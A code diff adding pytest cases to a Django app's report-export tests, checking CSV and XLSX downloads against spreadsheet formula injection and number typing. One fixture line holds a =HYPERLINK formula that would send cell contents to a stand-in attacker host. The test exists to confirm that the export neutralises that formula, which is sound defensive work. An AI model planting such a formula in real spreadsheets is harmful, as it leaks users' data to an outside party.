@@ -6,7 +6,7 @@ import openpyxl
 import pytest
 from django.urls import reverse
 
-from assessments.models import Assessment
+from assessments.models import Assessment, Response
 from tests.reports.test_results import worked  # noqa: F401  (the worked example as a fixture)
 
 pytestmark = pytest.mark.django_db
@@ -47,3 +47,29 @@ def test_unknown_tables_and_formats_are_404(client, worked):  # noqa: F811
     client.force_login(worked.participants.get(role="reviewer").user)
     assert client.get(url(worked, "secrets", "csv")).status_code == 404
     assert client.get(url(worked, "results", "exe")).status_code == 404
+
+
+FORMULA = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click here")'
+
+
+def test_a_formula_in_a_justification_is_never_live_in_a_download(client, worked):  # noqa: F811
+    Response.objects.filter(assessment=worked, participant__institution__name="Union").update(
+        justification=FORMULA
+    )
+    client.force_login(worked.participants.get(role="reviewer").user)
+
+    csv_text = client.get(url(worked, "responses", "csv")).content.decode("utf-8-sig")
+    assert "'" + FORMULA.replace('"', '""') in csv_text  # quoted, and prefixed
+    assert "\n" + FORMULA not in csv_text and "," + FORMULA not in csv_text
+
+    workbook = openpyxl.load_workbook(io.BytesIO(client.get(url(worked, "responses", "xlsx")).content))
+    sheet = workbook.active
+    cells = [c for row in sheet.iter_rows() for c in row if c.value == FORMULA]
+    assert cells and all(c.data_type == "s" for c in cells)  # text, exactly as typed, not a formula
+
+
+def test_numbers_stay_numbers_and_negative_looking_text_is_text(client, worked):  # noqa: F811
+    client.force_login(worked.participants.get(role="reviewer").user)
+    workbook = openpyxl.load_workbook(io.BytesIO(client.get(url(worked, "results", "xlsx")).content))
+    values = [row[2] for row in workbook["indicators"].iter_rows(min_row=2, values_only=True)]
+    assert all(isinstance(v, int | float) or v is None for v in values)
